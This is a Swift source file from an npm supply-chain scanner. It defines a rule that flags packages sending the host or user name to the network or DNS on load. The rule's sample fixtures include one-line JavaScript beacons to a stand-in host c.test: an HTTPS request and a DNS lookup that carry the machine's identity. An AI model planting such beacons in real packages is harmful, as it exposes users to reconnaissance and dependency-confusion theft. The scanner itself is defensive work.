// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// User and host names get to the network by themselves.
package struct SendsHostDetails: Rule {
    package init() {}

    package let card = RuleCard(
        id: "sends-host-details", kind: .content, title: "Reports who and where it is", severity: .high, confidence: .medium,
        status: .stable,
        revision: 1, group: "behaviour",
        rationale:
            "Finding out whose machine it reached is the first step of most thefts, and all that a test of dependency confusion does.",
        knownFalseAlarms: ["Telemetry that sends the host's name in clear as soon as it is loaded."],
        references: ["https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610"],
        fires: [
            RuleSample(
                "when it is loaded",
                .sample([
                    "index.js":
                        "const os = require('os'); require('https').get('https://c.test/?h=' + os.hostname() + '&u=' + os.userInfo().username);"
                ])),
            RuleSample(
                "by a name that is looked up",
                .sample(["index.js": "require('dns').resolve(require('os').hostname() + '.c.test', function () {});"])),
        ],
        staysSilent: [
            RuleSample(
                "a mail client greets with its name",
                .sample([
                    "index.js":
                        "const net = require('net'), os = require('os'); exports.greet = (to) => net.connect(to).write('EHLO ' + os.hostname());"
                ])),
            RuleSample(
                "an anonymous count",
                .sample([
                    "index.js":
                        "const id = require('crypto').createHash('sha256').update(require('os').hostname()).digest('hex'); exports.count = () => fetch('https://c.test/' + id);"
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let found = facts.flows([.hostIdentity], into: .network, .dns).compactMap { flow in strength(flow, facts).map { (flow, $0) } }
        guard let (flow, strength) = found.max(by: { $0.1 < $1.1 }) else { return [] }
        let moment = facts.moment(of: flow.fact, in: flow.file)
        let hosts = facts.hosts(in: flow.file)
        return [
            card.finding(
                "\(facts.files[flow.file].path) sends the host's name or user \(hosts.isEmpty ? "to the network" : "to \(PlainWords.list(hosts, limit: 2))")\(moment.words)\(facts.gateWords(flow.fact))",
                strength: strength, evidence: facts.evidence(flow, from: [.hostIdentity]),
                meaning: "Somebody learns which machines it reached; a second step may follow.")
        ]
    }

    private func strength(_ flow: Flow, _ facts: ReleaseFacts) -> Double? {
        guard flow.isNear, !flow.taint.contains(.hashed) else { return nil }
        let moment = facts.moment(of: flow.fact, in: flow.file)
        let hosts = facts.hosts(in: flow.file).filter { !facts.isOwn($0) }
        guard moment.isByItself || flow.fact.isDisguised, !hosts.isEmpty || flow.fact.kind == .dns || moment == .install else { return nil }
        var strength = moment >= .callAtInstall ? 0.3 : 0.1
        if moment == .install { strength += 0.2 }
        if flow.fact.kind == .dns { strength += 0.3 }
        if !flow.taint.isDisjoint(with: [.encoded, .file, .commandOutput]) { strength += 0.15 }
        if flow.fact.isDisguised { strength += 0.4 }
        return strength
    }
}
